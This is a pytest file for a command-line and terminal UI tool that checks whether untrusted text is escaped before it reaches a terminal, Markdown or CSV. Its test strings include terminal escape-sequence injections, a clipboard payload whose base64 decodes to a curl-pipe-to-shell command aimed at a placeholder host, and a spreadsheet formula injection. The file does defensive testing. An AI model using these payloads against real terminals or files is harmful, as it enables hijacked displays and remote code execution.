"""Untrusted text never reaches the terminal raw (issue 15, "Critical"): escape sequences
in todo items, notes, agents' lists, a server's ``/v1/models`` id, log lines and flag
values are shown escaped by every CLI printer and in the TUI, and the exports escape them
for their format. The journal keeps the raw text."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from click.testing import CliRunner

from optui.adapters.journal import Journal
from optui.cli import cli
from optui.config import load_config
from optui.core.journal import events as ev
from optui.core.text.safe_text import csv_cell, markdown_code, markdown_inline, safe_json, safe_line, safe_text, strip_unsafe
from optui.demo.campaign import write_demo_config
from tests.helpers.campaign import CampaignWriter, result
from tests.helpers.pilot import wait_for

pytestmark = pytest.mark.timeout(90)

TITLE = "T1 \x1b]2;PWNED-TITLE\x07 end"  # OSC 2: sets the terminal's / tmux pane's title
FORGE = "\x1b[2J\x1b[5;5HFORGED"  # CSI: clears the screen, draws at row 5
CLIP = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"  # OSC 52: the clipboard
C1 = "\x9b2J\x9d0;X\x9c"  # 8-bit CSI / OSC / ST
BIDI = "run\u202eexe.sh\u2066x\u2069"  # right-to-left override, isolates
ATTACK = f"{TITLE} {FORGE} {CLIP} {C1} {BIDI}"
#: what must never reach a terminal
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def assert_clean(text: str) -> None:
    found = RAW.findall(text)
    assert not found, f"raw control characters reach the terminal: {sorted(set(found))!r} in {text[:300]!r}"


# ------------------------------------------------------------------ the pure functions
def test_safe_text_shows_every_control_and_bidi_character_visibly():
    assert safe_text(TITLE) == "T1 \\x1b]2;PWNED-TITLE\\x07 end"
    assert safe_text(FORGE) == "\\x1b[2J\\x1b[5;5HFORGED"
    assert safe_text(C1) == "\\x9b2J\\x9d0;X\\x9c"
    assert safe_text(BIDI) == "run\\u202eexe.sh\\u2066x\\u2069"
    assert safe_text("a\tb\r\nc\rd\x7f\udc9b\ufeff") == "a b\nc⏎d\\x7f\\udc9b\\ufeff"
    assert safe_text("plain ünïcode — ✓ 👨‍👩‍👧") == "plain ünïcode — ✓ 👨‍👩‍👧"  # ZWJ emoji intact
    for ch in map(chr, [*range(0x20), 0x7F, *range(0x80, 0xA0), 0x202E, 0x2066, 0x200E, 0x2028]):
        assert_clean(safe_text(ch).replace("\n", ""))
    # one line: a newline cannot start a second row
    assert safe_line("name\nFORGED\r\nrow\rx") == "name⏎FORGED⏎row⏎x"
    assert "\n" not in safe_line(ATTACK + "\n") and "\r" not in safe_line(ATTACK)
    # the TUI's last filter: removes them (all zero cells wide), keeps tabs and newlines
    assert strip_unsafe(TITLE) == "T1 ]2;PWNED-TITLE end" and strip_unsafe("a\tb\nc") == "a\tb\nc"


def test_safe_json_keeps_the_value_and_escapes_what_json_leaves_raw():
    value = {"t": ATTACK + "\x7f\udc9b ü"}
    text = json.dumps(value, ensure_ascii=False)
    assert "\x9b" in text and "\u202e" in text  # json.dumps leaves C1 and bidi raw
    assert json.loads(safe_json(text)) == value and "ü" in safe_json(text)
    assert_clean(safe_json(text))


def test_markdown_and_csv_escaping():
    md = markdown_inline("# head | pipe `code` <b>x</b> *em* _u_ CUDA_VISIBLE_DEVICES\n" + TITLE)
    assert md.startswith("\\# head \\| pipe \\`code\\` \\<b\\>x\\</b\\> \\*em\\* \\_u\\_ CUDA_VISIBLE_DEVICES⏎T1 ")
    assert_clean(md)
    assert markdown_code("a`b\x1b") == "a'b\\x1b"
    assert [csv_cell(v) for v in ("=HYPERLINK(1)", "+1", "-x", "@SUM", "ok", 3.5, None)] == \
        ["'=HYPERLINK(1)", "'+1", "'-x", "'@SUM", "ok", 3.5, None]
    assert csv_cell("a\nb\x1b") == "a⏎b\\x1b"


# ------------------------------------------------------------------ CLI printers
@pytest.fixture
def campaign(tmp_path):
    return write_demo_config(tmp_path, port=1)  # never started: only the config matters


def run(cfg, *args, ok=True):
    r = CliRunner().invoke(cli, ["-c", str(cfg), *args])
    if ok:
        assert r.exit_code == 0, (r.output, r.exception)
    assert_clean(r.stdout)
    assert_clean(r.stderr)
    return r


def test_every_cli_printer_goes_through_the_safe_echo():
    """One boundary for the CLI: ``click.echo`` only inside ``cli/common.py`` (``echo``,
    ``echo_json``), and the TUI launcher's two ``print`` calls escape what they print."""
    import optui.cli

    for path in sorted(Path(optui.cli.__file__).parent.glob("*.py")):
        source = path.read_text()
        if path.name != "common.py":
            assert "click.echo(" not in source and "click.secho(" not in source, path.name
        for line in source.splitlines():
            if re.match(r"\s*print\(", line):
                assert "safe_text(" in line or "optui: error: demo writes its own config" in line, f"{path.name}: {line}"


def test_todo_text_through_every_todo_printer(campaign, tmp_path):
    r = run(campaign, "todo", "add", ATTACK)
    assert "\\x1b]2;PWNED-TITLE\\x07" in r.stdout
    assert "\\x1b]2;PWNED-TITLE\\x07 end" in run(campaign, "todo", "list").stdout
    assert "\\x9b2J" in run(campaign, "todo", "set", "1", "--priority", "high").stdout
    run(campaign, "todo", "set", "1", "--content", ATTACK + " v2")
    assert "\\u202e" in run(campaign, "todo", "history", "1").stdout
    # the journal keeps the raw text; JSON output escapes it and keeps the value
    assert Journal(campaign.parent / ".optui" / "optui.db").todos()[0].content == ATTACK + " v2"
    assert json.loads(run(campaign, "todo", "list", "--json").stdout)[0]["content"] == ATTACK + " v2"
    exported = run(campaign, "todo", "export", "--format", "todowrite").stdout
    assert json.loads(exported)["todos"][0]["content"] == ATTACK + " v2"
    md = run(campaign, "todo", "export").stdout  # Markdown: the visible escape, itself escaped for Markdown
    assert "\x1b" not in md and "\\\\x1b\\]52;c;" in md
    out = tmp_path / "todo.md"
    run(campaign, "todo", "export", "-o", str(out))
    assert_clean(out.read_text())
    # click's own usage error quotes the refused value
    r = run(campaign, "todo", "set", "1", "--status", TITLE, ok=False)
    assert r.exit_code == 2 and "Invalid value for '--status'" in r.stderr and "\\x1b]2;" in r.stderr


def test_agent_list_items_printed_by_todo_import(campaign, tmp_path):
    agent = tmp_path / "plan.json"
    agent.write_text(json.dumps({"todos": [{"content": ATTACK, "status": "pending", "priority": "high"}]}))
    r = run(campaign, "todo", "import", str(agent), "--dry-run")
    assert "\\x1b[2J\\x1b[5;5HFORGED" in r.stdout


def test_notes_through_the_journal_printers_and_exports(campaign, tmp_path):
    r = run(campaign, "journal", "note", ATTACK)
    seq = int(r.stdout.split()[0].lstrip("#"))
    assert "\\x1b]52;c;" in run(campaign, "journal", "tail").stdout
    tail = run(campaign, "journal", "tail", "--json").stdout
    assert json.loads(tail.splitlines()[-1])["data"]["text"] == ATTACK
    assert "\\u202e" in run(campaign, "journal", "show", str(seq)).stdout
    assert json.loads(run(campaign, "journal", "show", str(seq), "--json").stdout)["data"]["text"] == ATTACK
    md = run(campaign, "journal", "export", "--format", "md").stdout
    assert "\\\\x1b\\]2;PWNED-TITLE\\\\x07" in md  # the visible escape, escaped for Markdown
    jsonl = run(campaign, "journal", "export", "--format", "jsonl").stdout
    assert json.loads(jsonl.splitlines()[-1])["data"]["text"] == ATTACK
    for fmt in ("md", "jsonl", "csv"):
        out = tmp_path / f"export.{fmt}"
        run(campaign, "journal", "export", "--format", fmt, "-o", str(out))
        assert_clean(out.read_text().replace("\n", ""))


def test_log_lines_printed_by_log_classify(tmp_path):
    log = tmp_path / "server.log"
    log.write_text("[2025-01-15 10:00:00] Load weight begin.\n"
                   f"torch.OutOfMemoryError: CUDA out of memory {ATTACK}\n")
    r = CliRunner().invoke(cli, ["log", "classify", str(log), "--returncode", "1"])
    assert_clean(r.stdout)
    assert "\\x1b]2;PWNED-TITLE\\x07" in r.stdout


def test_a_real_terminal_gets_no_escape_sequence(campaign):
    """The attack as reported: ``optui todo add`` then ``optui todo list``, real processes,
    stdout a pseudo-terminal (click strips CSI only when it is not one)."""
    import os
    import pty
    import subprocess

    import optui

    src = str(Path(optui.__file__).resolve().parents[1])  # the optui under test, then what the environment had
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, [src, os.environ.get("PYTHONPATH")])))
    base = [sys.executable, "-m", "optui", "-c", str(campaign)]
    subprocess.run([*base, "todo", "add", f"{TITLE} {CLIP} {FORGE}"], check=True, env=env, capture_output=True, timeout=60)
    master, slave = pty.openpty()
    try:
        proc = subprocess.run([*base, "todo", "list"], stdout=slave, stderr=slave, env=env, timeout=60)
        os.close(slave)
        slave = -1
        chunks = []
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the writer closed
                break
            if not data:
                break
            chunks.append(data)
    finally:
        os.close(master)
        if slave >= 0:
            os.close(slave)
    out = b"".join(chunks)
    assert proc.returncode == 0
    assert b"\x1b" not in out and b"\x07" not in out, out
    assert b"\\x1b]2;PWNED-TITLE\\x07" in out and b"\\x1b]52;c;" in out


# ------------------------------------------------------------------ exports (pure)
def test_findings_report_and_csv_escape_a_hostile_model_id_and_flag(tmp_path):
    from optui.core.journal.report import ReportInput, render_csv, render_markdown

    j = Journal(tmp_path / "j.db")
    w = CampaignWriter(j)
    base = w.restart(list(w.argv), reason="autostart")
    w.bench(base, result(1000.0))
    hostile = [*w.argv, "--served-model-name", "=cmd|' /C calc'!A0\n# Owned `x` <img src=x>" + FORGE]
    exp = w.restart(hostile, reason=TITLE)
    w.bench(exp, result(1100.0))
    ready = j.events(types=[ev.SERVER_READY])[-1]
    j.append(ev.SERVER_READY, "qwen", {**ready.data, "model": f"Qwen{ATTACK}|x"}, experiment=exp, ts=w.tick(1))
    j.append(ev.NOTE, "qwen", {"text": "# heading?\n| a | b |\n" + CLIP}, experiment=exp, ts=w.tick(1))
    inp = ReportInput(title="t", events=j.events(), results=j.results(limit=None))
    md = render_markdown(inp)
    assert_clean(md.replace("\n", ""))
    assert "\\x1b" in md
    # outside code (where Markdown is literal anyway) no HTML, no heading from the text
    prose = re.sub(r"`[^`\n]*`", "", re.sub(r"```.*?```", "", md, flags=re.S))
    assert "<img" not in prose and "\n# Owned" not in prose and "\n# heading" not in prose
    for line in md.splitlines():
        if line.startswith("| exp-0002 "):
            assert line.count(" | ") == 11  # the pipes of the flag are escaped: the row keeps its cells
    text = render_csv(inp)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 3 and len({len(r) for r in rows}) == 1  # valid CSV, one row per experiment
    assert_clean(text.replace("\n", ""))
    assert rows[2][rows[0].index("reason")].startswith("T1 \\x1b]2;")
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)


# ------------------------------------------------------------------ the TUI (Pilot)
class _ModelsServer:
    """An OpenAI-style server on 127.0.0.1 whose ``/v1/models`` id is ``model_id``."""

    def __init__(self, model_id: str) -> None:
        body = json.dumps({"object": "list", "data": [{"id": model_id, "object": "model"}]}).encode()

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_GET(self):
                if self.path in ("/health", "/v1/models"):
                    data = b"{}" if self.path == "/health" else body
                    self.send_response(200)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", str(len(data)))
                    self.end_headers()
                    self.wfile.write(data)
                else:
                    self.send_response(404)
                    self.send_header("Content-Length", "0")
                    self.end_headers()

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(5)


def rendered(widget) -> list[str]:
    """The lines the widget sends to the screen (line filters applied), as plain text."""
    from textual.geometry import Region

    width, height = widget.outer_size
    return [strip.text for strip in widget.render_lines(Region(0, 0, width, height))]


BENCH_TOOL = ("import sys; sys.stdout.write('bench line \\x9b2J\\x9d0;OWNED\\x9c \\u202eexe\\n'"
              " '\\x1b]2;PWNED-TITLE\\x07 after osc\\n'); sys.stdout.flush()")


async def test_tui_shows_every_source_escaped_and_sends_nothing_raw(tmp_path):
    from optui.session import Session
    from optui.ui.app import OptuiApp

    agent = tmp_path / "plan.json"
    agent.write_text(json.dumps({"todos": [{"content": "agent " + ATTACK, "status": "pending", "priority": "high"}]}))
    with _ModelsServer("Qwen/evil" + TITLE + "\nline2") as server:
        flag = json.dumps("x\n\x1b[2Jforged" + C1)  # a flag value with a newline and escapes
        (tmp_path / "optui.toml").write_text(
            '[hosts.local]\ngpu_source = "none"\n'
            f'[servers.s]\nurl = "{server.url}"\ncontrol = "none"\nkind = "sglang"\n'
            f'argv = ["python", "-m", "sglang.launch_server", "--served-model-name", {flag}]\n'
            f'[todo]\npoll_s = 0.1\nfollow = [{json.dumps("todowrite:" + str(agent))}]\n'
            f'[benchmarks.evil]\nserver = "s"\nargv = {json.dumps([sys.executable, "-c", BENCH_TOOL])}\n')
        session = Session(load_config(tmp_path / "optui.toml"))
        session.journal.add_todo(ATTACK)
        session.journal.append(ev.NOTE, "s", {"text": "note " + ATTACK + "\nsecond line"})
        app = OptuiApp(session, title="test")
        async with app.run_test(size=(200, 50)) as pilot:
            await wait_for(pilot, lambda: app.panels_mounted)
            servers, todo, journal = app.query_one("#servers"), app.query_one("#todo-list"), app.query_one("#journal")
            await wait_for(pilot, lambda: any("Qwen/evil" in line for line in rendered(servers)))
            await wait_for(pilot, lambda: sum("PWNED-TITLE" in line for line in rendered(todo)) == 2)
            await wait_for(pilot, lambda: any("note T1" in line for line in rendered(journal)))
            # a server's /v1/models id and a flag value: visible escapes, one row each
            server_lines = rendered(servers)
            assert any("Qwen/evilT1 \\x1b]2;PWNED-" in line for line in server_lines), server_lines
            assert any("x⏎\\x1b[2Jforged\\x9b2J" in line for line in server_lines), server_lines
            assert not any(line.strip().startswith(("line2", "forged")) for line in server_lines)
            # the operator's todo item and the followed agent list's item
            todo_lines = rendered(todo)
            assert any("T1 \\x1b]2;PWNED-TITLE" in line and "agent" not in line for line in todo_lines), todo_lines
            assert any("agent T1 \\x1b]2;PWNED-TITLE" in line for line in todo_lines), todo_lines
            # a journal note with a newline stays one row
            journal_lines = rendered(journal)
            assert any("note T1 \\x1b]2;PWNED-TITLE" in line for line in journal_lines), journal_lines
            assert not any(line.strip().startswith("second line") for line in journal_lines)
            # benchmark output (log lines): 8-bit controls and bidi shown escaped
            session.benches.run("evil")
            log = app.query_one("StreamLog")
            await wait_for(pilot, lambda: log.line_count >= 2 and not session.benches.running, timeout=60)
            await pilot.pause()
            log_text = "\n".join(rendered(log))
            assert "bench line \\x9b2J\\x9d0;OWNED\\x9c \\u202eexe" in log_text, log_text
            # a toast quoting untrusted text (alerts do), with markup that would not parse
            app.notify("alert " + TITLE + " [/x]", title="from " + FORGE)
            await pilot.pause()
            # the whole screen as exported: no raw control character anywhere
            svg = app.export_screenshot()
            assert_clean(svg.replace("\n", ""))
            assert "PWNED-TITLE" in svg


async def test_the_last_filter_removes_what_a_widget_did_not_escape(tmp_path):
    """An input field (Textual's own widget, given raw text) draws nothing raw either."""
    from textual.widgets import Input

    from optui.session import Session
    from optui.ui.app import OptuiApp

    (tmp_path / "optui.toml").write_text('[hosts.local]\ngpu_source = "none"\n')
    app = OptuiApp(Session(load_config(tmp_path / "optui.toml")), title="test")
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_for(pilot, lambda: app.panels_mounted)
        await pilot.press("3")
        await pilot.press("a")
        await wait_for(pilot, lambda: app.screen.query(Input))
        field = app.screen.query(Input).first()
        field.value = "typed " + ATTACK
        await pilot.pause()
        lines = rendered(field)
        assert any("typed T1 ]2;PWNED-TITLE" in line for line in lines), lines
        assert_clean("".join(lines))
        assert_clean(app.export_screenshot().replace("\n", ""))


async def test_an_edit_box_prefilled_with_a_multi_line_item_stays_one_line():
    """`e` on a todo item an agent wrote with newlines put a raw LF into the edit box: the
    line after it overwrote the panel's border and stayed after Escape (break-it trial)."""
    from textual.app import App
    from textual.widgets import Input

    from optui.ui.screens.text_prompt import TextPrompt

    class Host(App):
        def on_mount(self) -> None:
            self.push_screen(TextPrompt("Edit item", "| pipe\n# heading\n=cmd()"))

    app = Host()
    async with app.run_test(size=(80, 20)) as pilot:
        await pilot.pause()
        value = app.screen.query_one(Input).value
        assert value == "| pipe # heading =cmd()", value
        lines = app.export_screenshot()
        assert "\n=cmd()" not in lines


def test_cli_rows_stay_one_row_per_item_and_event(campaign):
    """A todo item or note with a newline printed a forged row under its own in `todo list`
    and `journal tail` (break-it trial); now the break is shown as ⏎."""
    forged = "fake\n#1    done        high   Baseline (FORGED ROW)"
    run(campaign, "todo", "add", forged)
    run(campaign, "journal", "note", "line one\n14:00:00 #999 server.ready demo [cli] FORGED")
    listed = run(campaign, "todo", "list").stdout
    assert not any(line.startswith("#1    done") for line in listed.splitlines()), listed
    assert "fake⏎#1    done" in listed
    tail = run(campaign, "journal", "tail", "-n", "5").stdout
    assert not any(line.startswith("14:00:00 #999") for line in tail.splitlines()), tail


def test_headline_is_one_bounded_line_that_says_what_happened():
    # issue 20: a traceback's journal row and toast were many lines
    from optui.core.text.safe_text import headline

    traceback = 'Traceback (most recent call last):\n  File "x.py", line 1, in <module>\n    f()\nKeyError: \'a\'\n'
    assert headline(traceback) == "KeyError: 'a' …"
    assert headline("one\r\ntwo") == "one …" and headline("\n\n  only\n") == "  only" and headline("") == ""
    assert headline("z" * 50, limit=10) == "z" * 10 + " …" and headline("a\x1b]2;t\x07") == "a\\x1b]2;t\\x07"
